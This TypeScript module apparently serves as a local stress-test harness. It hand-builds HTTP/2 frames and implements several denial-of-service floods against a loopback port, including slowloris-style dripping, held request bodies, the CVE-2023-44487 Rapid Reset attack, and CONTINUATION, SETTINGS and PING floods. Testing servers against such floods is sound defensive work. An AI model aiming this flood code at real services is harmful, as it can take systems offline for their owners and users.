/**
 * Floods against a port on loopback, written byte by byte where no client library would do it: connections that send nothing or little, streams that hold back
 * their bodies, and frames of HTTP/2 without end. Each runs until its signal aborts, and reopens connections that are ended.
 */
import net, { type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

export interface FloodTarget {
  readonly port: number;
  /** For floods that come from a user. */
  readonly token: string;
}

/** What a flood has done so far. */
export interface FloodCount {
  opened: number;
  connected: number;
  /** By the server. */
  ended: number;
  bytesSent: number;
}

export type Flood = (target: FloodTarget, signal: AbortSignal, count: FloodCount) => Promise<void>;

const types = { data: 0, headers: 1, rstStream: 3, settings: 4, ping: 6, continuation: 9 } as const;
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** RFC 9113, section 4.1. */
export function frame(
  type: keyof typeof types,
  flags: number,
  stream: number,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(types[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A literal header field without indexing: RFC 7541, section 6.2.2. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);

export const headerBlock = (headers: Readonly<Record<string, string>>): Buffer =>
  Buffer.concat(Object.entries(headers).map(([name, value]) => literal(name, value)));

const health = headerBlock({ ':method': 'GET', ':scheme': 'http', ':path': '/health', ':authority': 'localhost' });
export const hello = Buffer.concat([preface, frame('settings', 0, 0)]);

/** One connection, from its opening to its end. */
async function connection(
  { port }: FloodTarget,
  signal: AbortSignal,
  count: FloodCount,
  talk: (socket: Socket) => Promise<void>,
): Promise<void> {
  const socket = net.connect(port, '127.0.0.1');
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  const end = () => socket.destroy();
  signal.addEventListener('abort', end, { once: true });
  socket.on('error', () => undefined);
  // Answers are read: a peer that does not read is a different attack.
  socket.resume();
  count.opened += 1;
  socket.once('connect', () => {
    count.connected += 1;
  });
  await Promise.race([talk(socket), closed]);
  await closed;
  signal.removeEventListener('abort', end);
  if (!signal.aborted) count.ended += 1;
  count.bytesSent += socket.bytesWritten;
}

/** Keeps this many connections open at all times. */
const keep =
  (connections: number, talk: (socket: Socket, target: FloodTarget) => Promise<void>): Flood =>
  async (target, signal, count) => {
    const one = async (): Promise<void> => {
      while (!signal.aborted) {
        await connection(target, signal, count, (socket) => talk(socket, target));
        await sleep(50);
      }
    };
    await Promise.all(Array.from({ length: connections }, one));
  };

const drainedOrClosed = (socket: Socket) =>
  new Promise<void>((resolve) => {
    const done = () => {
      socket.off('drain', done).off('close', done);
      resolve();
    };
    socket.on('drain', done).on('close', done);
  });

/** Writes what `next` makes, as fast as the socket accepts it. */
async function pour(socket: Socket, next: () => Buffer): Promise<void> {
  while (!socket.destroyed) {
    if (socket.write(next())) await sleep(0);
    else await drainedOrClosed(socket);
  }
}

/** The same frames over and over, 500 at a time. */
const pourFrames =
  (makeFrames: (streamId: number) => readonly Buffer[]) =>
  async (socket: Socket): Promise<void> => {
    socket.write(hello);
    let streamId = 1;
    await pour(socket, () => {
      const frames: Buffer[] = [];
      for (let n = 0; n < 500; n++, streamId += 2) frames.push(...makeFrames(streamId));
      return Buffer.concat(frames);
    });
  };

const cancel = Buffer.from([0, 0, 0, 8]);

export const floods = {
  /** Connections that send nothing. */
  idle: (connections: number) => keep(connections, async () => undefined),
  /** Connections that send one letter of a header a second. */
  slow: (connections: number) =>
    keep(connections, async (socket) => {
      socket.write('GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
      while (!socket.destroyed) {
        await sleep(1_000);
        socket.write('x');
      }
    }),
  /** A user's streams, each of which announces a body, sends half of it and then nothing. */
  heldBodies: (streams: number) =>
    keep(Math.ceil(streams / 100), async (socket, { token }) => {
      socket.write(hello);
      const head = headerBlock({
        ':method': 'POST',
        ':scheme': 'http',
        ':path': '/jobs',
        ':authority': 'localhost',
        'content-type': 'application/json',
        authorization: `Bearer ${token}`,
      });
      const half = Buffer.from(`{"blueprint":"bot_runner","data":{"code":"${'x'.repeat(16_000)}`);
      for (let n = 0; n < 100; n++) {
        socket.write(Buffer.concat([frame('headers', 0x4, 2 * n + 1, head), frame('data', 0, 2 * n + 1, half)]));
      }
    }),
  /** CVE-2023-44487. */
  rapidReset: (connections: number) =>
    keep(
      connections,
      pourFrames((streamId) => [frame('headers', 0x5, streamId, health), frame('rstStream', 0, streamId, cancel)]),
    ),
  /** A head that never ends. */
  continuation: (connections: number) =>
    keep(connections, async (socket) => {
      socket.write(Buffer.concat([hello, frame('headers', 0, 1, health)]));
      const more = frame('continuation', 0, 1, headerBlock({ 'x-more': 'y'.repeat(100) }));
      await pour(socket, () => Buffer.concat(Array.from({ length: 500 }, () => more)));
    }),
  settings: (connections: number) =>
    keep(
      connections,
      pourFrames(() => [frame('settings', 0, 0)]),
    ),
  ping: (connections: number) =>
    keep(
      connections,
      pourFrames(() => [frame('ping', 0, 0, Buffer.alloc(8))]),
    ),
} satisfies Readonly<Record<string, (amount: number) => Flood>>;
